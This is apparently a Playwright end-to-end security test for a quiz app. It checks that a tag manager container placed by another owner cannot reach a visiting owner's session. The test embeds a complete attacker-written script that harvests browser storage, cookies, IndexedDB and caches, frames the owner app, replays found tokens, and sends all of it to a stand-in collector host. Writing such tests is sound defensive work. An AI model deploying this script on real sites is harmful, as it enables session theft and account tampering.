import { expect, type Page, type Route, test } from "@playwright/test";
import { E2E_ORIGIN, E2E_VISITOR_ORIGIN } from "./support/e2e-origin";
import { ownerCall, publishBranchingQuiz } from "./support/quiz-builder";
import { PASSWORD, registerThroughUi, uniqueEmail } from "./support/users";

/**
 * docs/security.md "Another owner's published page", docs/adr/0016-visitor-origin.md. Owner
 * B (the visitor specs' quiz owner) puts a Google Tag Manager id on a published quiz; the
 * container that id loads is B's own code, and here it is written as an attacker would write
 * it: it takes whatever it can reach — every storage, the cookies, every owner API call on
 * both origins with and without credentials and with any token-like string it found, the
 * refresh and logout calls, the owner app opened and framed, postMessage — and reports it
 * all to a collector. Owner A, signed in to the owner app through the UI in the same
 * browser, opens B's link, in its old form on PUBLIC_URL and in the new one. The container
 * runs (so the test can fail), and nothing it gets is usable: no token-like string, no API
 * answer as A, and A's account is unchanged on the server.
 */

const GTM_ID = "GTM-ATTACK1";
const COLLECTOR = "https://collector.attacker.test/report";
const JWT = /eyJ[\w-]{6,}\.[\w-]{6,}\.[\w-]{6,}/;

/** What one visit's container reported. */
interface Report {
  origin: string;
  storage: Record<string, unknown>;
  tokens: string[];
  calls: { what: string; status?: number; body?: string; error?: string }[];
  windows: { what: string; result: string }[];
  messages: string[];
}

/**
 * The container: B's own script. `APP` is the owner app's origin, which an attacker knows
 * (it is the product's public address).
 */
function containerScript(app: string): string {
  return `(() => {
  const APP = ${JSON.stringify(app)};
  const COLLECTOR = ${JSON.stringify(COLLECTOR)};
  const send = (body) =>
    fetch(COLLECTOR, { method: "POST", mode: "no-cors", body: JSON.stringify(body) }).catch(() => {});
  send({ phase: "start", origin: location.origin });
  const report = { origin: location.origin, storage: {}, tokens: [], calls: [], windows: [], messages: [] };
  const strings = new Set();
  const collect = (value) => {
    if (typeof value === "string") {
      strings.add(value);
      try { collect(JSON.parse(value)); } catch {}
    } else if (value && typeof value === "object") {
      for (const item of Object.values(value)) collect(item);
    }
  };
  const dumpStorage = (storage) => {
    const out = {};
    try {
      for (let i = 0; i < storage.length; i++) out[storage.key(i)] = storage.getItem(storage.key(i));
    } catch (e) { out.error = String(e); }
    collect(out);
    return out;
  };
  addEventListener("message", (event) => {
    report.messages.push(event.origin + " " + JSON.stringify(event.data).slice(0, 500));
    collect(event.data);
  });
  const call = async (what, url, init) => {
    try {
      const response = await fetch(url, init);
      const body = (await response.text()).slice(0, 500);
      collect(body);
      report.calls.push({ what, status: response.status, body });
    } catch (e) {
      report.calls.push({ what, error: String(e) });
    }
  };
  const xhr = (what, url) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.withCredentials = true;
      request.onload = () => { report.calls.push({ what, status: request.status, body: request.responseText.slice(0, 500) }); resolve(); };
      request.onerror = () => { report.calls.push({ what, error: "xhr error" }); resolve(); };
      request.send();
    });
  (async () => {
    report.storage.local = dumpStorage(localStorage);
    report.storage.session = dumpStorage(sessionStorage);
    report.storage.cookie = document.cookie;
    collect(document.cookie.split(";").map((pair) => pair.split("=").slice(1).join("=")));
    try {
      const databases = await indexedDB.databases();
      report.storage.indexedDB = [];
      for (const { name } of databases) {
        const db = await new Promise((resolve, reject) => {
          const open = indexedDB.open(name);
          open.onsuccess = () => resolve(open.result);
          open.onerror = () => reject(open.error);
        });
        for (const store of db.objectStoreNames) {
          const rows = await new Promise((resolve) => {
            const all = db.transaction(store).objectStore(store).getAll();
            all.onsuccess = () => resolve(all.result);
            all.onerror = () => resolve([]);
          });
          report.storage.indexedDB.push({ name, store, rows });
          collect(rows);
        }
      }
    } catch (e) { report.storage.indexedDB = String(e); }
    try {
      report.storage.caches = [];
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) {
          const text = await (await cache.match(request)).text();
          report.storage.caches.push({ name, url: request.url, text: text.slice(0, 500) });
          collect(text);
        }
      }
    } catch (e) { report.storage.caches = String(e); }

    // Framing and opening the owner app, and asking every window for what it holds.
    const frame = document.createElement("iframe");
    frame.src = APP + "/";
    document.body.appendChild(frame);
    const opened = window.open(APP + "/projects", "_blank");
    await new Promise((resolve) => setTimeout(resolve, 3000));
    for (const [what, target] of [["iframe", frame.contentWindow], ["window.open", opened], ["opener", window.opener], ["parent", window.parent !== window ? window.parent : null]]) {
      if (!target) { report.windows.push({ what, result: "no window" }); continue; }
      if (target.closed) { report.windows.push({ what, result: "closed" }); continue; }
      try {
        // A frame whose navigation has not committed is still this page's own blank document.
        if (target.location.href === "about:blank") { report.windows.push({ what, result: "blank" }); continue; }
      } catch {}
      try { target.postMessage({ type: "leadquiz:token?", source: "leadquiz-preview" }, "*"); } catch {}
      try {
        const theirs = dumpStorage(target.localStorage);
        report.windows.push({ what, result: "read " + JSON.stringify(theirs).slice(0, 500) });
      } catch (e) {
        report.windows.push({ what, result: "refused: " + String(e).slice(0, 200) });
      }
      try { report.windows.push({ what: what + " document", result: target.document.cookie + " " + target.document.body.innerText.slice(0, 300) }); } catch (e) {
        report.windows.push({ what: what + " document", result: "refused: " + String(e).slice(0, 200) });
      }
    }
    try { opened && opened.close(); } catch {}

    // Every API call it can make as the visiting owner, on both origins.
    for (const base of [APP, location.origin]) {
      const api = base + "/api/v1";
      for (const credentials of ["include", "omit"]) {
        await call(base + " userinfo " + credentials, api + "/userinfo/", { credentials });
        await call(base + " projects " + credentials, api + "/project/", { credentials });
        await call(base + " refresh " + credentials, api + "/token/refresh/", { method: "POST", credentials, headers: { "content-type": "text/plain" }, body: "{}" });
        await call(base + " logout " + credentials, api + "/logout/", { method: "POST", credentials, headers: { "content-type": "text/plain" }, body: "{}" });
        await call(base + " new project " + credentials, api + "/project/", { method: "POST", credentials, headers: { "content-type": "text/plain" }, body: JSON.stringify({ title: "pwned" }) });
      }
      await xhr(base + " userinfo xhr", api + "/userinfo/");
    }
    // Anything that looks like a token, tried as one.
    report.tokens = [...strings].filter((s) => s.length >= 20 && /^[\\w.~+/=-]+$/.test(s)).slice(0, 20);
    for (const token of report.tokens) {
      for (const base of [APP, location.origin]) {
        const api = base + "/api/v1";
        await call(base + " userinfo as " + token.slice(0, 12), api + "/userinfo/", { headers: { authorization: "Bearer " + token } });
        await call(base + " refresh with " + token.slice(0, 12), api + "/token/refresh/", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ refresh: token }) });
      }
    }
    // A readable answer of userinfo would name the account: change its name.
    for (const found of report.calls) {
      const match = /"id":(\\d+)/.exec(found.body || "");
      if (found.status === 200 && match && /userinfo/.test(found.what)) {
        for (const token of report.tokens) {
          await call("rename " + match[1], APP + "/api/v1/userinfo/" + match[1] + "/", { method: "PATCH", headers: { authorization: "Bearer " + token, "content-type": "application/json" }, body: JSON.stringify({ first_name: "pwned" }) });
        }
      }
    }
    await send({ phase: "done", report });
  })();
})();`;
}

/** Collects the container's reports of one browser context. */
function collector() {
  const reports: { phase: string; origin?: string; report?: Report }[] = [];
  return {
    reports,
    async handle(route: Route) {
      const body = route.request().postData();
      if (body) reports.push(JSON.parse(body));
      await route.fulfill({ status: 204, headers: { "access-control-allow-origin": "*" } });
    },
  };
}

/** The visiting owner's own view of their account, through the API with their password. */
async function accountOf(email: string) {
  const sign = await fetch(`${E2E_ORIGIN}/api/v1/token/`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-forwarded-for": "10.77.0.1" },
    body: JSON.stringify({ email, password: PASSWORD }),
  });
  expect(sign.status).toBe(200);
  const { access } = (await sign.json()) as { access: string };
  const get = async (path: string) =>
    (
      await fetch(`${E2E_ORIGIN}/api/v1${path}`, { headers: { authorization: `Bearer ${access}` } })
    ).json();
  return { user: await get("/userinfo/"), projects: await get("/project/") };
}

async function visitAndCollect(page: Page, url: string, reports: ReturnType<typeof collector>) {
  const before = reports.reports.length;
  await page.goto(url);
  await expect
    .poll(() => reports.reports.slice(before).find((r) => r.phase === "done"), { timeout: 45_000 })
    .toBeTruthy();
  const started = reports.reports.slice(before).find((r) => r.phase === "start");
  const done = reports.reports.slice(before).find((r) => r.phase === "done")?.report;
  if (!started || !done) throw new Error("the container did not report");
  return { started, done };
}

test("another owner's tag manager container gets nothing of the visiting owner's session", async ({
  browser,
}) => {
  test.setTimeout(240_000);
  // Owner B's quiz, published with a tag manager id.
  const quiz = await publishBranchingQuiz();
  await ownerCall("PATCH", `/quiz/${quiz.id}/`, { analytics: { gtm_id: GTM_ID } });
  const published = await ownerCall<{ public_url: string }>("POST", "/publication-quiz/", {
    quiz: quiz.id,
  });

  // Owner A, signed in to the owner app through the UI.
  const context = await browser.newContext({ baseURL: E2E_ORIGIN });
  const reports = collector();
  await context.route(`https://www.googletagmanager.com/gtm.js?id=${GTM_ID}`, (route) =>
    route.fulfill({
      status: 200,
      contentType: "text/javascript",
      body: containerScript(E2E_ORIGIN),
    }),
  );
  await context.route(`${COLLECTOR}**`, (route) => reports.handle(route));
  try {
    const app = await context.newPage();
    const email = uniqueEmail("owner.a");
    await registerThroughUi(app, email);
    const before = await accountOf(email);

    const visits = [];
    for (const link of [`${E2E_ORIGIN}/q/${quiz.publicKey}`, published.public_url]) {
      const tab = await context.newPage();
      visits.push(await visitAndCollect(tab, link, reports));
      await tab.close();
    }

    // What the container got, for whoever reads the report.
    await test.info().attach("container reports", {
      body: JSON.stringify(visits, null, 2),
      contentType: "application/json",
    });
    if (process.env.E2E_PRINT_REPORTS) console.log(JSON.stringify(visits, null, 1));
    for (const { done } of visits) {
      const everything = JSON.stringify(done);
      // Nothing token-like: no JWT anywhere, A's address in no answer, no storage of the app.
      expect(everything).not.toMatch(JWT);
      expect(everything).not.toContain(email);
      // The owner app, opened or framed, gave it nothing to read.
      for (const { what, result } of done.windows) {
        expect(result, what).toMatch(/^(no window|closed|blank|refused)/);
      }
      // No call was answered as A: each was refused by the browser or by the server.
      for (const found of done.calls) {
        if (found.status !== undefined) {
          expect(found.status, `${found.what}: ${found.body}`).toBeGreaterThanOrEqual(400);
        }
      }
      // The owner API on the visitor origin answers nothing at all.
      const onVisitor = done.calls.filter((c) => c.what.startsWith(E2E_VISITOR_ORIGIN));
      expect(onVisitor.length).toBeGreaterThan(0);
      for (const found of onVisitor) expect(found.status, found.what).toBe(404);
    }

    // The container ran on the visitor origin only, where both links lead.
    for (const { started, done } of visits) {
      expect(started.origin).toBe(E2E_VISITOR_ORIGIN);
      expect(done.origin).toBe(E2E_VISITOR_ORIGIN);
    }
    expect(published.public_url).toBe(`${E2E_VISITOR_ORIGIN}/q/${quiz.publicKey}`);

    // On the server, A's account is as it was.
    const after = await accountOf(email);
    expect(after).toEqual(before);
    // And A's session in the app is still there.
    await app.reload();
    await expect(app.getByTestId("user-menu")).toContainText(email);
  } finally {
    await context.close();
  }
});
